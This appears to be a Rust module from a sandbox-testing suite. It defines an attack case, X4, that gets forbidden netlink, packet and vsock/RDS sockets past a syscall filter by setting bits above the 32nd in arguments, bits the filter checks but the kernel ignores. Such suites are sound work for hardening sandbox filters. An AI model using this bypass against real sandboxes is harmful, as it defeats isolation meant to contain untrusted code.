//! X4: hides a refused socket behind bits that the kernel drops.

use std::io;

use crate::attack::{Attack, Judge};
use crate::attacks::kernel::sys;
use crate::attacks::proof;
use crate::needs;
use crate::stage::Stage;

/// Bits above the 32nd.
const HIGH: u64 = 0xdead_0000_0000;
const NETLINK: u64 = 16;
const PACKET: u64 = 17;
const VSOCK_OR_RDS: [u64; 4] = [40, 21, 38, 30];

const ROW: Attack = Attack {
    id: "X4",
    what: "gets a socket of a refused kind because the filter compares all 64 bits and the kernel only 32",
    prepare,
    ..Attack::ROW
};

pub(super) const DOMAIN: Attack = Attack {
    name: "socket-domain-high-word",
    attack: |args| made(args, sys!(SYS_socket, HIGH | NETLINK, libc::SOCK_RAW, 15)),
    ..ROW
};

pub(super) const KIND: Attack = Attack {
    name: "socket-kind-high-word",
    attack: |args| {
        let any = VSOCK_OR_RDS.into_iter().map(|family| sys!(SYS_socket, HIGH | family, HIGH | 5, HIGH));
        let netlink = sys!(SYS_socket, HIGH | NETLINK, HIGH | libc::SOCK_RAW as u64, HIGH | 15);
        made(args, any.fold(netlink, io::Result::or))
    },
    ..ROW
};

pub(super) const PACKET_SOCKET: Attack = Attack {
    name: "socket-packet-high-word",
    attack: |args| made(args, sys!(SYS_socket, HIGH | PACKET, libc::SOCK_RAW, 0x300)),
    needs: &[&needs::ROOT],
    ..ROW
};

fn prepare(stage: &mut Stage) -> io::Result<Judge> {
    proof::demanded(stage)
}

fn made(args: &[String], socket: io::Result<usize>) -> io::Result<()> {
    socket?;
    proof::show(args, 0)
}
